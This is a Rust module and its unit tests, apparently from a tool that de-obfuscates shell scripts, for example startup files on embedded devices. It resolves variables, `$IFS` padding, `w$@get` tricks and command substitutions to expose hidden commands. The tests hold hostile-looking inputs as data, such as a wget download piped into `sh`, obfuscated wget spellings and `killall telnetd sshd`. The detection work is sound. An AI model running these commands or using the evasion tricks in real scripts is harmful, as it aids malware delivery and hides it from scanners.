//! What a shell puts in the place of `$…` and backquotes, as far as the lines before say it, and what a line sets.

use super::{Current, Parser};
use crate::facts::commands::{Role, assignment, is_of_name};
use crate::facts::place::{is_generated, is_odd_program};
use crate::facts::text::Bytes;
use crate::limits::{NESTING, VARIABLE_TEXT, WORD_BYTES};

impl Parser<'_> {
    /// `$(…)`, backquotes, `$((…))`, `${…}` and plain `$NAME`.
    pub(super) fn substitution(&mut self, byte: u8, quoted: bool, now: &mut Current) {
        match (byte, self.peek(0), self.peek(1)) {
            (b'$', Some(b'$'), _) => {
                self.skip(1);
                now.computed = true;
            }
            (b'$', Some(b'('), Some(b'(')) if self.depth < NESTING => {
                self.skip(2);
                self.depth = self.depth.saturating_add(1);
                let mut open = 2_u32;
                while open > 0
                    && let Some(b) = self.next()
                {
                    match b {
                        b'(' => open = open.saturating_add(1),
                        b')' => open = open.saturating_sub(1),
                        // Arithmetic runs what is substituted in it.
                        b'$' | b'`' => self.substitution(b, true, now),
                        _ => {}
                    }
                }
                self.depth = self.depth.saturating_sub(1);
                now.computed = true;
            }
            (b'$', Some(b'('), _) => {
                self.skip(1);
                let from = self.first_inside(now);
                self.nested(b')', now);
                self.resolve(from, now);
            }
            (b'$', Some(b'{'), _) => {
                self.skip(1);
                self.braces(quoted, now);
            }
            (b'`', ..) => {
                let from = self.first_inside(now);
                self.backquoted(now);
                self.resolve(from, now);
            }
            // `w$@get` and `wget$IFS$9-O-`: what is empty in a startup file hides the rest.
            (b'$', Some(b'@' | b'*'), Some(next)) if !now.word.is_empty() && is_of_name(next) => self.skip(1),
            (b'$', Some(b'9'), _) => self.skip(1),
            _ => {
                let start = self.at;
                while self.peek(0).is_some_and(is_of_name) {
                    self.skip(1);
                }
                let name = self.text.get(start..self.at).unwrap_or_default();
                self.variable(name, name, quoted, now);
            }
        }
    }

    /// What `${…}` stands for, as far as that is a plain text.
    fn braces(&mut self, quoted: bool, now: &mut Current) {
        let mut inner = Bytes::<WORD_BYTES>::new();
        while let Some(b) = self.next().filter(|b| *b != b'}') {
            match b {
                // `${x:-$(wget …)}` runs it.
                b'$' | b'`' if self.depth < NESTING => {
                    self.depth = self.depth.saturating_add(1);
                    core::mem::swap(&mut inner, &mut now.word);
                    self.substitution(b, true, now);
                    core::mem::swap(&mut inner, &mut now.word);
                    self.depth = self.depth.saturating_sub(1);
                }
                _ => inner.push(&[b]),
            }
        }
        let whole = inner.as_slice();
        let end = whole.iter().position(|b| !is_of_name(*b)).unwrap_or(whole.len());
        let (name, rest) = whole.split_at(end);
        let default = rest.strip_prefix(b":").unwrap_or(rest).strip_prefix(b"-");
        match default.filter(|_| self.commands.variables.get(name).is_none_or(<[u8]>::is_empty)) {
            Some(text) if !text.is_empty() && !text.contains(&b'$') => {
                now.word.push(text);
                now.computed = true;
            }
            None if rest.is_empty() || default.is_some() => self.variable(name, whole, quoted, now),
            _ => self.variable(b"", whole, quoted, now),
        }
    }

    /// Appends the value of a variable if it is known, else `otherwise` with its dollar. Without quotes blanks part words.
    fn variable(&mut self, name: &[u8], otherwise: &[u8], quoted: bool, now: &mut Current) {
        now.quoted = true;
        let value = match name {
            b"IFS" => Some(Bytes::of(b" ")),
            _ => self.commands.variables.get(name).map(Bytes::<VARIABLE_TEXT>::of),
        };
        let Some(value) = value else {
            now.computed = true;
            now.word.push(b"$");
            return now.word.push(otherwise);
        };
        if quoted || now.role != Role::Argument {
            return now.word.push(value.as_slice());
        }
        now.begun = !now.word.is_empty();
        for byte in value.as_slice() {
            if matches!(byte, b' ' | b'\t' | b'\n') {
                self.end_word(now);
            } else {
                now.begun = true;
                now.word.push(&[*byte]);
            }
        }
    }

    /// The index that the first command of a substitution will have.
    fn first_inside(&mut self, now: &mut Current) -> u16 {
        let _ = self.begin(now);
        self.count()
    }

    /// `$(which wget)` is a name for `wget`, as `$(echo wget)` is; what other commands print is not known.
    fn resolve(&mut self, first: u16, now: &mut Current) {
        let mut found = Bytes::<VARIABLE_TEXT>::new();
        if self.count() == first.saturating_add(1) {
            let words = || self.commands.words(first, Role::Argument);
            let asks = matches!(words().next(), Some(b"which" | b"command" | b"type"));
            let prints = words().next() == Some(b"echo") && words().count() == 2;
            let operand = words().skip(1).last().filter(|name| !matches!(name.first(), Some(b'-' | b'$')));
            let plain = operand.filter(|text| asks || prints && !text.contains(&b'\\'));
            found.push(plain.unwrap_or_default());
        }
        now.computed |= found.is_empty();
        now.word.push(found.as_slice());
    }

    /// Learns what a word sets a variable to: in the place of a program, behind `export`, or as the first of a loop.
    pub(super) fn assign(&mut self, command: u16, now: &Current) {
        /// Builtins whose operands are assignments (POSIX.1-2017 2.14; local and declare of most shells).
        const DECLARE: [&[u8]; 5] = [b"export", b"local", b"readonly", b"declare", b"typeset"];
        if now.role != Role::Argument || !self.commands.learns {
            return;
        }
        let (commands, word) = (&mut *self.commands, now.word.as_slice());
        let program = commands.words(command, Role::Argument).nth(usize::from(commands.before(command)));
        if program.is_none_or(|program| DECLARE.contains(&program)) {
            if let Some((name, value)) = assignment(word) {
                commands.variables.set(name, Some(value).filter(|_| !now.computed && !now.word.is_cut()));
            }
        } else if program == Some(b"read") && word.first() != Some(&b'-') {
            commands.variables.set(word, None);
        } else if program == Some(b"for") {
            let mut words = commands.words(command, Role::Argument).skip(1);
            let (name, keyword, first) = (words.next(), words.next(), words.next());
            let mut copy = Bytes::<VARIABLE_TEXT>::of(name.unwrap_or(word));
            if copy.is_cut() {
                copy.clear();
            }
            // One of many says what the loop does: a name the first, ports all of them, a path only where all are odd,
            // because others are tried one after the other.
            let path = word.contains(&b'/');
            // Services undo there what they did: `for f in /var/run/chilli.*.sh; do sh $f; done`.
            let undone = is_generated(word) && word.contains(&b'*');
            let odd = is_odd_program(word) && !undone;
            let says = keyword == Some(b"in") && !now.computed && (!path || odd);
            let known = commands.variables.get(copy.as_slice());
            let is_number = |text: &[u8]| text.iter().all(|b| b.is_ascii_digit() || *b == b',');
            if first.is_none() || path && !says {
                commands.variables.set(copy.as_slice(), Some(word).filter(|_| says));
            } else if let Some(known) = known.filter(|known| says && is_number(known) && is_number(word)) {
                let mut all = Bytes::<VARIABLE_TEXT>::of(known);
                all.push(b",");
                all.push(word);
                if !all.is_cut() {
                    commands.variables.set(copy.as_slice(), Some(all.as_slice()));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::facts::commands::{Commands, Role};

    /// The words of the commands of the last line, `|` between two commands.
    fn last(lines: &[u8]) -> String {
        let mut commands = Commands::new();
        lines.split(|b| *b == b'\n').for_each(|line| commands.parse(line));
        let words = |index| -> Vec<_> {
            commands.words(index, Role::Argument).map(|w| String::from_utf8_lossy(w).into_owned()).collect()
        };
        commands.iter().map(|(index, _)| words(index).join(" ")).collect::<Vec<_>>().join("|")
    }

    #[test]
    fn plain_texts_are_followed() {
        for (lines, expected) in [
            (&b"B=/tmp\n$B/.x &"[..], "/tmp/.x"),
            (b"B=/tmp; ${B}/.x", "B=/tmp|/tmp/.x"),
            (b"A=wget\n$A -O- http://h/x | sh", "wget -O- http://h/x|sh"),
            (b"A='busybox wget -q'\n$A x \"$A\"", "busybox wget -q x busybox wget -q"),
            (b"export A=/tmp B=/usr\n$A/x $B", "/tmp/x /usr"),
            (b"local A=/tmp\n$A/x", "/tmp/x"),
            (b"if A=/tmp; then :; fi\n$A/x", "/tmp/x"),
            (b"A=a B=$A$A\n$B", "aa"),
            (b"A=\nw${A}get", "wget"),
            (b"A=\n$A x", "x"),
            (b"wget$IFS-O-${IFS}x", "wget -O- x"),
            (b"wget$IFS$9x", "wget x"),
            (b"w$@get x", "wget x"),
            (b"${A:-/tmp}/x ${A-y}", "/tmp/x y"),
            (b"A=/usr\n${A:-/tmp}/x", "/usr/x"),
            (b"for p in 23 80 443\niptables --dport $p", "iptables --dport 23,80,443"),
            (b"for d in telnetd sshd\nkillall $d", "killall telnetd"),
            (b"for f in /tmp/a /var/run/b\n$f", "/tmp/a"),
            (b"for f in /tmp/a /usr/b\n$f", "$f"),
            (b"for f in /usr/b /tmp/a\n$f", "$f"),
            (b"X=$(echo /tmp/a); $X", "X=/tmp/a|echo /tmp/a|/tmp/a"),
            (b"X=$(echo $Y); $X", "X=|echo $Y|$X"),
            (b"W=$(which wget); $W x", "W=wget|which wget|wget x"),
            (b"`command -v curl` x", "curl x|command -v curl"),
            (br"$'\x77get' x", "wget x"),
        ] {
            assert_eq!(last(lines), expected, "{}", String::from_utf8_lossy(lines));
        }
    }

    #[test]
    fn what_is_not_plain_is_not() {
        for (lines, expected) in [
            (&b"A=/tmp\nA=$(date)\n$A"[..], "$A"),
            (b"A=$1\n$A", "$A"),
            (b"A=x$$\n$A", "$A"),
            (b"A=/tmp\nread A\n$A", "$A"),
            (b"A=1; '$A' \\$A", "A=1|$A $A"),
            (b"for f in /tmp/x /usr/y\n$f", "$f"),
            (b"echo A=/tmp\n$A", "$A"),
            (b"IFS=,\nread a b", "read a b"),
            (b"${A%/*} ${A:-$B} \"$@\" $1", "$A%/* $A:-$B $@ $1"),
            (b"[ x = A=1 ]\n$A", "$A"),
        ] {
            assert_eq!(last(lines), expected, "{}", String::from_utf8_lossy(lines));
        }
    }

    #[test]
    fn a_text_sets_nothing() {
        let mut commands = Commands::new();
        commands.parse(b"B=/tmp");
        commands.parse_text(b"B=/usr | x");
        commands.parse(b"$B/x");
        assert_eq!(commands.name(0), b"x");
        assert_eq!(commands.program(0).next(), Some(&b"/tmp/x"[..]));
        commands.begin_file();
        commands.parse(b"$B/x");
        assert_eq!(commands.program(0).next(), Some(&b"$B/x"[..]));
    }
}
